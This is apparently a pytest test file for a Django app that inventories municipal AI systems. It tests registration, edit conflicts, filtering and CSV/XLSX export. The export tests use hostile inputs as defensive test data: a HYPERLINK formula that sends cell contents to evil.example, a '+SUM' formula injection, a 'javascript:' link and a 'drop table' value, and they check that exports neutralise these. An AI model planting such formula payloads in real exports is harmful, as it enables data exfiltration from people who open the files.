"""The inventory: registering and editing systems, finding them again, and taking the list away."""

from __future__ import annotations

import csv
import io
from importlib import resources
from pathlib import Path

import openpyxl
import pytest
from django.test import Client
from django.urls import reverse

from tests.web.conftest import client_for, make_user
from tillid.assessment.answers import read_answer_set
from tillid.web.accounts.models import Membership, Organisation, Role, User
from tillid.web.assessments import services
from tillid.web.inventory.models import AISystem

pytestmark = pytest.mark.django_db

DEMO = Path(str(resources.files("tillid.examples").joinpath("demo")))


@pytest.fixture
def organisation() -> Organisation:
    return Organisation.objects.create(
        name="Havbjerg Kommune", slug="havbjerg", organisation_type="municipality", country="DK"
    )


@pytest.fixture
def editor(organisation: Organisation) -> User:
    user = make_user("mette", first_name="Mette")
    Membership.objects.create(user=user, organisation=organisation, role=Role.EDITOR)
    return user


@pytest.fixture
def client(editor: User) -> Client:
    return client_for(editor)


def form(**values: object) -> dict[str, object]:
    return {
        "name": "Chatbot",
        "purpose": "Answers citizens' questions about waste collection.",
        "owner": "",
        "vendor": "Snakkebot ApS",
        "lifecycle_phase": "procure",
        "status": "planned",
        "affected_groups": "Citizens",
        "data_used": "",
        "links": "https://havbjerg.example/chatbot",
        **values,
    }


def register(organisation: Organisation, name: str, **fields: object) -> AISystem:
    return AISystem.objects.create(
        organisation=organisation, name=name, purpose=f"{name} purpose", **fields
    )


def assess(system: AISystem, user: User, answers_file: str) -> None:
    answers = read_answer_set(DEMO / answers_file).answers
    assessment = services.start_assessment(system, user)
    services.save_answers(
        assessment, user, [services.AnswerInput(q, v, None) for q, v in answers.items()]
    )


# Registering and editing -------------------------------------------------------------------------


def test_an_editor_registers_a_system_and_sees_it(
    client: Client, organisation: Organisation, editor: User
) -> None:
    response = client.post(reverse("system_new", args=["havbjerg"]), form(owner=editor.pk))
    system = AISystem.objects.get(organisation=organisation)
    assert response.status_code == 302
    assert response["Location"] == reverse("system_detail", args=["havbjerg", system.pk])
    page = client.get(response["Location"]).content.decode()
    assert "Chatbot" in page and "Snakkebot ApS" in page and "The system was registered." in page
    assert system.owner == editor and system.version == 1


def test_a_second_system_with_the_same_name_is_refused_and_nothing_saved(
    client: Client, organisation: Organisation
) -> None:
    register(organisation, "Chatbot")
    response = client.post(reverse("system_new", args=["havbjerg"]), form(purpose="Another"))
    assert response.status_code == 200
    assert "There is already a system named Chatbot." in response.content.decode()
    assert AISystem.objects.filter(organisation=organisation).count() == 1


@pytest.mark.parametrize(
    ("field", "value", "message"),
    [
        ("name", "", "This field is required."),
        ("links", "javascript:alert(1)", "Each link must start with https:// or http://"),
        ("lifecycle_phase", "forever", "Select a valid choice."),
    ],
)
def test_bad_input_is_named_and_nothing_is_saved(
    client: Client, organisation: Organisation, field: str, value: str, message: str
) -> None:
    response = client.post(reverse("system_new", args=["havbjerg"]), form(**{field: value}))
    assert response.status_code == 200
    assert message in response.content.decode()
    assert not AISystem.objects.filter(organisation=organisation).exists()


def test_an_owner_from_another_organisation_is_refused(
    client: Client, organisation: Organisation
) -> None:
    stranger = make_user("stranger")
    other = Organisation.objects.create(
        name="Other", slug="other", organisation_type="region", country="DK"
    )
    Membership.objects.create(user=stranger, organisation=other, role=Role.ADMIN)
    response = client.post(reverse("system_new", args=["havbjerg"]), form(owner=stranger.pk))
    assert response.status_code == 200
    assert "Select a valid choice." in response.content.decode()
    assert not AISystem.objects.exists()


def test_two_edits_from_the_same_version_the_second_is_told_and_the_first_is_kept(
    organisation: Organisation, editor: User
) -> None:
    system = register(organisation, "Chatbot", vendor="Snakkebot ApS")
    colleague = make_user("jonas")
    Membership.objects.create(user=colleague, organisation=organisation, role=Role.EDITOR)
    mette, jonas = client_for(editor), client_for(colleague)
    url = reverse("system_edit", args=["havbjerg", system.pk])
    # Both open the form from version 1.
    assert 'name="version" value="1"' in mette.get(url).content.decode()
    assert 'name="version" value="1"' in jonas.get(url).content.decode()

    first = mette.post(url, form(purpose="Answers questions about waste.", version=1))
    second = jonas.post(url, form(vendor="Another vendor", version=1))

    assert first.status_code == 302
    assert second.status_code == 200
    page = second.content.decode()
    assert "Someone else saved this system while you were editing it." in page
    assert "Another vendor" in page  # what Jonas typed is still in his form to do again
    system.refresh_from_db()
    assert system.purpose == "Answers questions about waste."  # Mette's change kept
    assert system.vendor == "Snakkebot ApS"  # Jonas's not applied over it
    assert system.version == 2


def test_renaming_to_a_name_in_use_is_refused_with_a_message(
    client: Client, organisation: Organisation
) -> None:
    register(organisation, "Chatbot")
    system = register(organisation, "Spam filter")
    url = reverse("system_edit", args=["havbjerg", system.pk])
    response = client.post(url, form(name="Chatbot", version=1))
    assert response.status_code == 200
    assert "There is already a system named Chatbot." in response.content.decode()
    system.refresh_from_db()
    assert system.name == "Spam filter" and system.version == 1


# Finding systems ---------------------------------------------------------------------------------


@pytest.fixture
def inventory(organisation: Organisation, editor: User) -> dict[str, AISystem]:
    systems = {
        "Chatbot": register(
            organisation, "Chatbot", vendor="Snakkebot ApS", lifecycle_phase="procure"
        ),
        "Spam filter": register(
            organisation, "Spam filter", lifecycle_phase="operate", status="in_use"
        ),
        "Route planner": register(
            organisation, "Route planner", lifecycle_phase="operate", status="paused"
        ),
    }
    assess(systems["Chatbot"], editor, "website_chatbot.yaml")
    assess(systems["Spam filter"], editor, "spam_filter.yaml")
    return systems


def listed(client: Client, **query: str) -> list[str]:
    """The system names the inventory lists, in order."""
    response = client.get(reverse("systems", args=["havbjerg"]), query)
    assert response.status_code == 200
    return [s.name for s in response.context["systems"]]


@pytest.mark.usefixtures("inventory")
def test_search_filters_and_sorting(client: Client) -> None:
    assert listed(client) == ["Chatbot", "Route planner", "Spam filter"]
    assert listed(client, sort="-name") == ["Spam filter", "Route planner", "Chatbot"]
    assert listed(client, q="snakkebot") == ["Chatbot"]  # vendor, any case
    assert listed(client, q="route planner purpose") == ["Route planner"]  # purpose
    assert listed(client, phase="operate") == ["Route planner", "Spam filter"]
    assert listed(client, phase="operate", status="paused") == ["Route planner"]
    assert listed(client, risk="transparency") == ["Chatbot"]
    assert listed(client, risk="minimal") == ["Spam filter"]
    assert listed(client, risk="none") == ["Route planner"]  # never assessed
    assert listed(client, open="1") == ["Chatbot", "Spam filter"]
    assert listed(client, q="nothing like this") == []
    assert listed(client, sort="drop table") == ["Chatbot", "Route planner", "Spam filter"]


@pytest.mark.usefixtures("inventory")
def test_htmx_filtering_returns_only_the_table(client: Client) -> None:
    response = client.get(
        reverse("systems", args=["havbjerg"]), {"q": "spam"}, headers={"HX-Request": "true"}
    )
    page = response.content.decode()
    assert "Spam filter" in page and "Chatbot" not in page
    assert "<html" not in page


# Exports -----------------------------------------------------------------------------------------

HOSTILE = '=HYPERLINK("https://evil.example/?d="&A1,"Click")'


@pytest.fixture
def hostile(organisation: Organisation, inventory: dict[str, AISystem]) -> AISystem:
    return register(
        organisation,
        HOSTILE,
        vendor="+SUM(1,2)",
        lifecycle_phase="develop",
        data_used="Case records\x0bincome data",  # a vertical tab, as pasted from Word
    )


def test_csv_export_has_a_bom_semicolons_and_only_the_filtered_systems(
    client: Client, inventory: dict[str, AISystem]
) -> None:
    response = client.get(reverse("system_export", args=["havbjerg", "csv"]), {"phase": "operate"})
    assert response["Content-Type"].startswith("text/csv")
    assert 'filename="tillid-havbjerg-ai-systems.csv"' in response["Content-Disposition"]
    text = response.content.decode("utf-8")
    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text[1:]), delimiter=";"))
    assert rows[0][:3] == ["Name", "Purpose", "Owner"]
    assert [r[0] for r in rows[1:]] == ["Route planner", "Spam filter"]
    spam = rows[2]
    assert spam[rows[0].index("Risk class")] == "Minimal risk"


def test_xlsx_export_opens_and_holds_every_system(
    client: Client, inventory: dict[str, AISystem]
) -> None:
    response = client.get(reverse("system_export", args=["havbjerg", "xlsx"]))
    assert response["Content-Type"] == (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0][0] == "Name"
    assert [r[0] for r in rows[1:]] == ["Chatbot", "Route planner", "Spam filter"]


@pytest.mark.usefixtures("hostile")
def test_a_name_that_looks_like_a_formula_is_exported_as_text(client: Client) -> None:
    response = client.get(reverse("system_export", args=["havbjerg", "xlsx"]), {"q": "HYPERLINK"})
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    name, vendor = sheet.cell(row=2, column=1), sheet.cell(row=2, column=4)
    assert name.data_type == "s" and vendor.data_type == "s"  # text cells, not formulas
    assert name.value == HOSTILE  # exactly what was typed
    assert vendor.value == "+SUM(1,2)"
    assert sheet.cell(row=2, column=12).value == "Case recordsincome data"

    text = client.get(
        reverse("system_export", args=["havbjerg", "csv"]), {"q": "HYPERLINK"}
    ).content.decode()
    row = list(csv.reader(io.StringIO(text[1:]), delimiter=";"))[1]
    # Spreadsheets run a CSV cell starting with = + - @ as a formula; the apostrophe stops that.
    assert row[0] == "'" + HOSTILE and row[3] == "'+SUM(1,2)"


def test_an_unknown_export_format_is_404(client: Client) -> None:
    assert client.get(reverse("system_export", args=["havbjerg", "exe"])).status_code == 404
